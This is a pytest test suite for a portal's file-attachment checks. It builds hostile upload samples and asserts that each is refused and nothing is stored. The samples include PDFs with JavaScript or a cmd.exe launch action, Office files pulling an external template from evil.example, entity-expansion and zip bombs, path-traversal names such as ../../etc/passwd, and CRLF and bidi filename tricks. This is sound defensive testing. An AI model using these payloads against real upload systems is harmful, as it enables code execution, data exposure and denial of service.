"""Files that nobody should have sent: one sentence each, nothing kept, and the words of the comment stay."""

import tracemalloc
import zlib
from collections.abc import Callable

import pytest

from portal.db import Session
from portal.files import inspection
from portal.files.incoming import LARGEST
from portal.files.routes import LARGEST_BODY
from tests.factories import Cast
from tests.files.conftest import attach, kept, rows, say
from tests.files.made import EXE, HTML, PDF, SVG, animated, archive, noise, odt, office, picture, png_claiming, related, with_link_out_of_it
from tests.making import make_finding

TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
GROWING = (
    b'<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY a%d "%s">' % (depth, b"&a%d;" % (depth - 1) * 10) for depth in range(1, 9))
    + b"]><x>&a8;</x>"
)
XSLT = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svar/>'
MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
UNKNOWN = "Filtypen går inte att bifoga."
BROKEN = "Filen är trasig eller går inte att läsa."
MIXED = "Filen är två filtyper på en gång"
MACRO = "Filen har makron eller hämtar innehåll från nätet."
BOMB = "Filen innehåller för mycket när den packas upp."
PIXELS = "Bilden har för många bildpunkter"
OTHER_NAME = "Namnet och innehållet stämmer inte överens"
PAGE = "Webbsidor går inte att bifoga."
ACTS = "PDF-filen innehåller skript eller startar program."


def acting(action: bytes) -> bytes:
    return PDF.replace(b"%%EOF", b"9 0 obj << /Type /Action " + action + b" >> endobj\n%%EOF")


def packed(objects: bytes) -> bytes:
    stream = zlib.compress(objects, 9)
    head = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Columns 4 >> /Length %d >>\nstream\n" % len(
        stream
    )
    return PDF.replace(b"%%EOF", head + stream + b"\nendstream endobj\n%%EOF")


HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], int, str]] = {
    "U01 empty": ("tom.pdf", b"", 422, "Filen är tom."),
    "U04 page as picture": ("bild.png", HTML, 415, PAGE),
    "U06 page": ("sida.html", HTML, 415, PAGE),
    "U06 xhtml": ("sida.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', 415, PAGE),
    "U05 drawing": ("bild.svg", SVG, 415, "SVG-bilder går inte att bifoga."),
    "U05 drawing as picture": ("bild.png", SVG, 415, "SVG-bilder går inte att bifoga."),
    "U04 program as document": ("svar.pdf", EXE, 415, UNKNOWN),
    "U06 shortcut": ("länk.url", b"[InternetShortcut]\nURL=https://evil.example", 415, UNKNOWN),
    "U04 gif that is a script": ("bild.gif", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)", 415, UNKNOWN),
    "telephone's own format": ("IMG.HEIC", b"\0\0\0\x18ftypheic" + bytes(40), 415, "Spara bilden som JPEG."),
    "U04 pdf that is an archive": ("svar.pdf", PDF + archive({"x": b"y"}), 415, MIXED),
    "U04 pdf that is a page": ("svar.pdf", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF", 415, MIXED),
    "pdf cut off": ("svar.pdf", PDF[:30], 422, BROKEN),
    "U12 pdf with a script": ("svar.pdf", acting(b"/S /JavaScript /JS (app.alert(1))"), 415, ACTS),
    "U12 pdf with a script by number": ("svar.pdf", acting(b"/S /Java#53cript /J#53 (app.alert(1))"), 415, ACTS),
    "U12 pdf that starts a program": ("svar.pdf", acting(b"/S /Launch /F (cmd.exe)"), 415, ACTS),
    "U12 pdf with a packed script": ("svar.pdf", packed(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"), 415, ACTS),
    "U11 pdf that unpacks for ever": ("svar.pdf", lambda: packed(bytes(65 << 20)), 413, BOMB),
    "U11 pdf of names by number": ("svar.pdf", lambda: PDF.replace(b"%%EOF", b"#41 stream\nendstream " * 110_000 + b"%%EOF"), 413, BOMB),
    "U04 archive with something behind it": ("svar.docx", office() + b"<script>", 415, MIXED),
    "U06 page of data with a style that runs": ("svar.xml", XSLT, 415, PAGE),
    "U06 windows shortcut": ("svar.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60), 415, UNKNOWN),
    "U06 query": ("svar.iqy", b"WEB\r\n1\r\nhttps://evil.example/x\r\n", 415, UNKNOWN),
    "U04 program as picture": ("bild.png", EXE, 415, UNKNOWN),
    "U05 drawing with a page in it": (
        "bild.svg",
        SVG.replace(b"<script>", b'<foreignObject><a href="https://evil.example">x</a></foreignObject><script>'),
        415,
        "SVG",
    ),
    "U11 archive in an archive": ("svar.zip", archive({"x.zip": archive({"y.zip": archive({"z": b"z"})})}), 415, UNKNOWN),
    "U11 archive": ("svar.zip", archive({"x.txt": b"y"}), 415, UNKNOWN),
    "archive as document": ("svar.docx", archive({"x.txt": b"y"}), 415, UNKNOWN),
    "cut off archive": ("svar.docx", office()[:-30], 422, BROKEN),
    "U04 document in a picture's name": ("bild.png", PDF, 415, OTHER_NAME),
    "U04 picture in a document's name": ("svar.pdf", picture(), 415, OTHER_NAME),
    "U07 12,000 squared": ("bild.png", png_claiming(12_000, 12_000), 413, PIXELS),
    "U07 20,000 squared": ("bild.png", png_claiming(20_000, 20_000), 413, PIXELS),
    "U07 65,000 squared": ("bild.png", png_claiming(65_000, 65_000), 413, PIXELS),
    "U08 picture cut off": ("bild.png", noise()[:5000], 422, BROKEN),
    "U08 photo cut off": ("bild.jpg", noise("JPEG")[:5000], 422, BROKEN),
    "U08 photo of nothing": ("bild.jpg", b"\xff\xd8\xff\xe0" + bytes(400), 422, BROKEN),
    "U09 photoshop": ("bild.png", b"8BPS\0\1" + bytes(100), 415, UNKNOWN),
    "U09 animation of autodesk's": ("bild.png", bytes(4) + b"\x11\xaf" + bytes(200), 415, UNKNOWN),
    "U09 texture": ("bild.png", b"DDS \x7c\0\0\0" + bytes(200), 415, UNKNOWN),
    "U09 icons of a mac": ("bild.png", b"icns\0\0\0\xd0" + bytes(200), 415, UNKNOWN),
    "U09 tiff": ("bild.png", b"II*\0" + bytes(100), 415, UNKNOWN),
    "U09 postscript": ("bild.png", b"%!PS-Adobe-3.0 EPSF-3.0\n", 415, UNKNOWN),
    "old office or a password": ("svar.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), 415, "låst med lösenord eller i ett äldre"),
    "U12 macros": ("svar.docx", office(word__vbaProject=b"x"), 415, MACRO),
    "U12 macros by type": ("svar.docx", archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": b"<x/>"}), 415, MACRO),
    "U12 macros in odt": ("svar.odt", odt(Basic__script=b"x"), 415, MACRO),
    "U12 template from elsewhere": (
        "svar.docx",
        archive({"[Content_Types].xml": b"<x/>", "word/_rels/settings.xml.rels": TEMPLATE}),
        415,
        MACRO,
    ),
    "the same in other quotes": ("svar.docx", related(TEMPLATE.replace(b'"', b"'")), 415, MACRO),
    "the same after a bracket": ("svar.docx", related(TEMPLATE.replace(b'Id="1"', b'Id="1>"')), 415, MACRO),
    "the same in two bytes a letter": ("svar.docx", related(TEMPLATE.decode().encode("utf-16")), 415, MACRO),
    "the same by number": ("svar.docx", related(TEMPLATE.replace(b"Template", b"Templ&#97;te")), 415, MACRO),
    "the same in capitals": ("svar.docx", related(TEMPLATE, "word/_rels/settings.xml.RELS"), 415, MACRO),
    "macros by another name": (
        "svar.docx",
        related(TEMPLATE.replace(b"attachedTemplate", b"vbaProject").replace(b"External", b"Internal")),
        415,
        MACRO,
    ),
    "relations that are no XML": ("svar.docx", related(b"<Relationships"), 422, BROKEN),
    "relations that grow": ("svar.docx", related(GROWING), 422, BROKEN),
    "U11 relations that fill many parts": (
        "svar.docx",
        lambda: office(**{f"x{n}.rels": b"<x>" + b"<x/>" * 20_000 + b"</x>" for n in range(60)}),
        413,
        BOMB,
    ),
    "an entry twice": ("svar.docx", related(b"<x/>", "MAIN.xml"), 422, BROKEN),
    "U11 a million times itself": ("svar.docx", lambda: office(word__x=bytes(600 << 20)), 413, BOMB),
    "U11 ten thousand entries": ("svar.docx", lambda: office(**{f"x{n}": b"" for n in range(10_000)}), 413, BOMB),
    "U11 a link out of it": ("svar.docx", with_link_out_of_it(), 422, BROKEN),
    "a way up": ("svar.docx", office(**{"..__..__etc__passwd": b"x"}), 422, BROKEN),
    "two kinds of office": (
        "svar.docx",
        archive({"[Content_Types].xml": b"wordprocessingml.document.main+xml spreadsheetml.sheet.main+xml"}),
        415,
        UNKNOWN,
    ),
}


async def test_a_document_with_an_ordinary_link_is_kept(cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    link = TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(
        b"<Relationships>", b'<?xml version="1.0" encoding="UTF-8"?><Relationships>'
    )
    assert (await attach(maja, record, "svar.docx", related(link))).status_code == 201


async def test_a_pdf_full_of_beginnings_without_an_end_is_looked_through_once(cast: Cast, session: Session, browser):
    """Looked for anew from each beginning, their end would keep the worker until it is killed."""
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    endless = PDF.replace(b"%%EOF", b"stream\n" * 1_500_000 + b"%%EOF")
    assert (await attach(maja, record, "svar.pdf", endless)).status_code == 201


@pytest.mark.parametrize("case", HOSTILE)
async def test_a_hostile_file_gets_its_sentence_and_nothing_is_kept(case: str, cast: Cast, session: Session, browser, store):
    name, content, status, sentence = HOSTILE[case]
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    answer = await attach(maja, record, name, content() if callable(content) else content)
    assert (answer.status_code, sentence in answer.text) == (status, True), answer.text
    assert answer.text.count("data-sentence") == 1
    assert (await rows(session), kept(store)) == ([], [])


NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "/etc/passwd": "passwd.pdf",
    "a\r\nX: y.pdf": "a X y.pdf",
    "C:\\temp\\svar.pdf": "svar.pdf",
    ".htaccess": "htaccess.pdf",
    "CON.pdf": "_CON.pdf",
    "nul": "_nul.pdf",
    "gpj.\u202efdp.pdf": "gpj.fdp.pdf",
    "a\u200f?*.pdf": "a.pdf",
    "svar\u00a0 . .pdf": "svar.pdf",
    "å" * 300 + ".pdf": "å" * 100 + ".pdf",
    "рисунок🙂.pdf": "рисунок🙂.pdf",
    "a%00.pdf": "a00.pdf",
    "Sa\u030ag.PDF": "Såg.pdf",
    "   .pdf": "pdf.pdf",
    "??": "fil.pdf",
    "svar.exe": "svar.exe.pdf",
    "svar": "svar.pdf",
    "rapport 2.0": "rapport 2.0.pdf",
    "a;b'c&d#e.pdf": "a;b'c&d#e.pdf",
}


@pytest.mark.parametrize("given", NAMES)
async def test_u02_a_name_is_cleaned_and_the_file_can_be_had_under_it(given: str, cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    assert (await attach(maja, record, given)).status_code == 201
    [file] = await rows(session)
    assert file.name == NAMES[given]
    page = (await maja.get(f"/granby/files/{file.id}")).text
    address = page.split('class="btn" href="')[1].split('"')[0]
    answer = await maja.get(address.replace("&#39;", "'").replace("&amp;", "&"))
    assert answer.content == PDF
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    assert disposition.isascii()
    assert disposition.isprintable()


@pytest.mark.parametrize(
    "head",
    [
        'form-data; name="file"; filename="a.pdf"; filename*=UTF-8\'\'b.html',
        'form-data; name="file"; filename="a.pdf\x00.html"',
        'form-data; name="file"; filename="a.pdf\xff"',
        "form-data",
    ],
    ids=["U03 two names", "U02 nul", "U02 not utf-8", "U03 no name"],
)
async def test_a_part_with_an_odd_head_is_an_error_of_the_sender(head: str, cast: Cast, session: Session, browser, store):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    body = b"--x\r\nContent-Disposition: " + head.encode("latin-1") + b"\r\n\r\n" + PDF + b"\r\n--x--\r\n"
    headers = {"x-csrf-token": maja.csrf, "content-type": "multipart/form-data; boundary=x"}
    answer = await maja.client.post(f"/granby/records/{record.id}/files", content=body, headers=headers)
    assert answer.status_code in (400, 422), answer.text
    assert (await rows(session), kept(store)) == ([], [])


@pytest.mark.parametrize(
    "content_type",
    [
        "application/octet-stream",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "application/json",
        "multipart/mixed; boundary=x",
    ],
)
async def test_only_a_form_carries_files(content_type: str, cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    headers = {"x-csrf-token": maja.csrf, "content-type": content_type}
    answer = await maja.client.post(f"/granby/records/{record.id}/files", content=b"--x--\r\n", headers=headers)
    assert answer.status_code == 415


async def test_u01_a_file_over_the_limit_is_refused_and_one_at_it_is_kept(cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    whole = b"%PDF-1.7\n" + bytes(LARGEST - len(PDF)) + b"\n%%EOF"
    whole += b"\n" * (LARGEST - len(whole))
    refused = await attach(maja, record, "stor.pdf", whole + b"\n")
    assert (refused.status_code, "Filen är större än 25 MB." in refused.text) == (413, True)
    assert (await attach(maja, record, "stor.pdf", whole)).status_code == 201
    assert [each.size for each in await rows(session)] == [LARGEST]


async def test_u01_an_upload_that_never_ends_is_cut_off(cast: Cast, session: Session, browser, store):
    record, maja, sent = await make_finding(session, cast.contact), await browser(cast.contact), 0

    async def endless():
        nonlocal sent
        yield b'--x\r\nContent-Disposition: form-data; name="file"; filename="stor.pdf"\r\n\r\n%PDF-1.7\n'
        while sent < 2 * LARGEST_BODY:
            sent += 1 << 20
            yield bytes(1 << 20)

    headers = {"x-csrf-token": maja.csrf, "content-type": "multipart/form-data; boundary=x", "x-fragment": "1"}
    answer = await maja.client.post(f"/granby/records/{record.id}/files", content=endless(), headers=headers)
    assert (answer.status_code, await rows(session), kept(store)) == (413, [], [])
    assert sent <= LARGEST_BODY + (2 << 20)


async def test_a_large_file_is_never_in_memory_whole(cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    await attach(maja, record)

    async def parts():
        yield b'--x\r\nContent-Disposition: form-data; name="file"; filename="stor.pdf"\r\n\r\n%PDF-1.7\n'
        for _each in range(20 * 16):
            yield bytes(65536)
        yield b"\n%%EOF\r\n--x--\r\n"

    headers = {"x-csrf-token": maja.csrf, "content-type": "multipart/form-data; boundary=x", "x-fragment": "1"}
    request = maja.client.build_request("POST", f"/granby/records/{record.id}/files", content=parts(), headers=headers)
    tracemalloc.start()
    answer = await maja.client.send(request)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert answer.status_code == 201
    assert peak < 4_000_000


async def test_a_refused_file_leaves_the_comment_and_the_other_files_alone(cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    await maja.post(f"/granby/records/{record.id}/draft", {"body": "Mina ord finns kvar."})
    await attach(maja, record, "svar.pdf")
    assert (await attach(maja, record, "sida.html", HTML)).status_code == 415
    shown = (await maja.get(f"/granby{record.path}")).text
    assert ("Mina ord finns kvar." in shown, shown.count("data-file=")) == (True, 1)
    [file] = await rows(session)
    assert (await say(maja, record, "Mina ord finns kvar.", file=[file.id], alt=[""])).status_code == 303


@pytest.mark.parametrize("kind", ["WEBP", "PNG"])
async def test_u08_the_first_frame_of_ten_thousand_is_enough(kind: str, cast: Cast, session: Session, browser):
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    assert (await attach(maja, record, f"film.{kind.lower()}", animated(kind, 2_000))).status_code == 201


async def test_u08_a_worker_that_takes_too_long_is_killed(cast: Cast, session: Session, browser, store, monkeypatch, tmp_path):
    slow = tmp_path / "worker.py"
    slow.write_text("import time\ntime.sleep(60)\n")
    monkeypatch.setattr(inspection, "WORKER", slow)
    monkeypatch.setattr(inspection, "PATIENCE", 0.5)
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    answer = await attach(maja, record)
    assert (answer.status_code, BROKEN in answer.text, kept(store)) == (422, True, [])


async def test_a_worker_with_too_much_in_memory_ends_by_itself(cast: Cast, session: Session, browser, monkeypatch, tmp_path):
    greedy = tmp_path / "worker.py"
    greedy.write_text(inspection.WORKER.read_text().replace("MEMORY = 1 << 30", "MEMORY = 200 << 20"))
    monkeypatch.setattr(inspection, "WORKER", greedy)
    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
    answer = await attach(maja, record, "bild.png", picture(size=(7000, 7000)))
    assert (answer.status_code, BROKEN in answer.text) == (422, True)
